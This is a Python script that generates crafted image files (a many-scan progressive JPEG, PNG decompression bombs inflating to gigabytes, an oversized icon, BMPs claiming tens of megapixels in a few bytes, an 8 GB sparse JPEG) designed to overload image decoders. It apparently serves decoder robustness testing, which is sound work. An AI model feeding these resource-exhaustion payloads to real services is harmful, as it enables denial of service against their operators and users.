#!/usr/bin/env python3
"""Writes small crafted pictures whose headers or data would make a decoder
work far beyond what their size suggests, into the folder given:

  progressive_994_scans.jpg  10000 x 10000 progressive JPEG, 994 scans, ~0.7 MB
  inflates_1gib_1x1.png      1 x 1 PNG whose picture data inflates to 1 GiB (~1 MB)
  inflates_4gib_1x1.png      the same inflating to 4 GiB (~4 MB)
  sparse_8gb.jpg             a sparse 8 GB file starting with a JPEG marker
                             (left out with --no-huge)
  ico_png_12000.ico          an icon holding a 12000 x 12000 PNG
  bmp_92mp_short.bmp         uncompressed BMP claiming 92 megapixels in 72 bytes
  bmp_17mp_rle.bmp           RLE8 BMP claiming 17 megapixels in a few bytes
"""
import os
import struct
import sys
import zlib


class BitWriter:
    """Entropy-coded JPEG data: bits high first, 0xFF bytes stuffed."""

    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.count = 0

    def put(self, value, bits):
        for i in range(bits - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.count += 1
            if self.count == 8:
                self._emit(self.acc)
                self.acc = 0
                self.count = 0

    def zeros(self, bits):
        """Many zero bits at once (the DC scan)."""
        while self.count and bits:
            self.put(0, 1)
            bits -= 1
        self.out += bytes(bits // 8)
        self.put(0, bits % 8)

    def _emit(self, byte):
        self.out.append(byte)
        if byte == 0xFF:
            self.out.append(0)

    def finish(self):
        if self.count:
            self.put((1 << (8 - self.count)) - 1, 8 - self.count)  # pad with ones
        return bytes(self.out)


def segment(marker, payload):
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def progressive_jpeg(side=10000, scans=994):
    """One DC scan of all three components, then single-component AC scans
    that each cover every block with a few end-of-band runs: tiny scans that
    each make the decoder walk the whole coefficient buffer."""
    blocks = ((side + 7) // 8) ** 2
    data = bytearray(b"\xFF\xD8")
    data += segment(0xDB, bytes([0]) + bytes([1] * 64))
    data += segment(0xC2, struct.pack(">BHHB", 8, side, side, 3) +
                    b"".join(bytes([c, 0x11, 0]) for c in (1, 2, 3)))
    # DC table 0: one code "0" for difference category 0.
    data += segment(0xC4, bytes([0x00]) + bytes([1] + [0] * 15) + bytes([0]))
    # AC table 0: one code "0" for an end-of-band run of 2^14 + 14 bits.
    data += segment(0xC4, bytes([0x10]) + bytes([1] + [0] * 15) + bytes([0xE0]))
    data += segment(0xDA, bytes([3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 0, 0]))
    dc = BitWriter()
    dc.zeros(3 * blocks)
    data += dc.finish()
    for i in range(scans - 1):
        component = 1 + i % 3
        data += segment(0xDA, bytes([1, component, 0x00, 1, 63, 0]))
        ac = BitWriter()
        # Runs of 2^14 + 14 extra bits (16384 .. 32767 blocks), spread evenly.
        count = -(-blocks // 32767)
        for r in range(count):
            run = blocks // count + (1 if r < blocks % count else 0)
            ac.put(0, 1)
            ac.put(run - (1 << 14), 14)
        data += ac.finish()
    return bytes(data + b"\xFF\xD9")


def chunk(kind, payload):
    return (struct.pack(">I", len(payload)) + kind + payload +
            struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF))


def png(width, height, colour_type, depth, idat):
    out = b"\x89PNG\r\n\x1a\n"
    out += chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0))
    for start in range(0, len(idat), 1 << 16):
        out += chunk(b"IDAT", idat[start:start + (1 << 16)])
    return out + chunk(b"IEND", b"")


def zeros_stream(total_mib):
    """A zlib stream of total_mib MiB of zero bytes, built from one
    compressed MiB repeated (its matches reach back only into zeros)."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = raw.compress(bytes(1 << 20)) + raw.flush(zlib.Z_SYNC_FLUSH)
    # A fresh stream's first block starts with a literal, so every copy
    # decodes alone; the closing block is an empty fixed-Huffman final block.
    total = total_mib << 20
    adler = ((total % 65521) << 16) | 1
    return b"\x78\xda" + one * total_mib + b"\x03\x00" + struct.pack(">I", adler)


def inflating_png(total_mib):
    return png(1, 1, 2, 8, zeros_stream(total_mib))


def ico_with_png(side=12000):
    compressor = zlib.compressobj(9)
    row = bytes(side + 1)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    inner = png(side, side, 0, 8, idat)
    header = struct.pack("<HHH", 0, 1, 1)
    entry = struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(inner), 6 + 16)
    return header + entry + inner


def bmp(width, height, bits, compression, pixel_data):
    colours = 2 if bits <= 8 else 0
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, compression, len(pixel_data),
                       2835, 2835, colours, 0)
    palette = bytes(4 * colours)
    offset = 14 + len(info) + len(palette)
    return (b"BM" + struct.pack("<IHHI", offset + len(pixel_data), 0, 0, offset) + info + palette +
            pixel_data)


def main():
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    files = {
        "progressive_994_scans.jpg": progressive_jpeg(),
        "inflates_1gib_1x1.png": inflating_png(1024),
        "inflates_4gib_1x1.png": inflating_png(4096),
        "ico_png_12000.ico": ico_with_png(),
        "bmp_92mp_short.bmp": bmp(9592, 9592, 24, 0, bytes(18)),
        # End of line, end of bitmap: the whole 17-megapixel picture in 4 bytes.
        "bmp_17mp_rle.bmp": bmp(4123, 4123, 8, 1, b"\x00\x00\x00\x01"),
    }
    for name, data in files.items():
        with open(os.path.join(folder, name), "wb") as out:
            out.write(data)
    if "--no-huge" not in sys.argv:
        with open(os.path.join(folder, "sparse_8gb.jpg"), "wb") as out:
            out.write(b"\xFF\xD8\xFF")
            out.truncate(8 << 30)
    for name in sorted(os.listdir(folder)):
        print(name, os.path.getsize(os.path.join(folder, name)))


if __name__ == "__main__":
    main()
